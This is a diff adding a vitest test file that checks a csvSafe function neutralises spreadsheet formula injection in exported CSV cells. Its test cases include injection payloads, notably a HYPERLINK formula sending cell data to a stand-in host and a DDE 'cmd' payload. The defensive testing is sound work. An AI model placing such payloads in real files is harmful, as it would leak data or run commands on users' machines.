@@ -1,0 +1,25 @@
+import { describe, expect, it } from 'vitest';
+import { csvSafe } from '@app/domain';
+
+/** Issue 15, finding 2: every CSV cell that a spreadsheet would run as a formula is neutralised. */
+describe('csvSafe', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.test/?d="&A1,"Click")', `'=HYPERLINK("http://evil.test/?d="&A1,"Click")`],
+    ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
+    ['-2+3', `'-2+3`],
+    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
+    ['\t=1+1', `'\t=1+1`],
+    ['\r=1+1', `'\r=1+1`],
+  ])('neutralises %j', (cell, expected) => {
+    expect(csvSafe(cell)).toBe(expected);
+  });
+
+  it('leaves ordinary cells and numbers alone', () => {
+    for (const cell of ['Thailand', 'Demo Team', 'a=b', 'x@y.test', ' =not first', ''])
+      expect(csvSafe(cell)).toBe(cell);
+    expect(csvSafe(-5)).toBe(-5);
+    expect(csvSafe(12.5)).toBe(12.5);
+    expect(csvSafe(null)).toBe('');
+    expect(csvSafe(undefined)).toBe('');
+  });
+});
